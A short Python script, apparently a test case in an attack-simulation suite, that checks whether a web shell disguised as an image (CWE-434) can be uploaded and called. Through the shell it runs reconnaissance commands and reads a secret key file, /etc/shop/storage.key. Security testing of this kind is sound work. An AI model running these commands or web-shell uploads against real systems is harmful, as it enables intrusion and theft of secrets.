#!/usr/bin/python3 -B
"""Upload of a web shell: a picture that is a PHP script, called afterwards (CWE-434)."""

from attack import Attack


def run(attack: Attack) -> bool:
    said = attack.media("id; uname -a; ls -la /srv; head -5 /srv/media.php;"
                        " cat /etc/shop/storage.key")
    return attack.prove("uid=33" in said and "media-77aa" in said, said=said)


Attack("T1190, T1505.003", ["edge", "media"], ["/srv/uploads", "/etc/shop/storage.key"]).main(run)
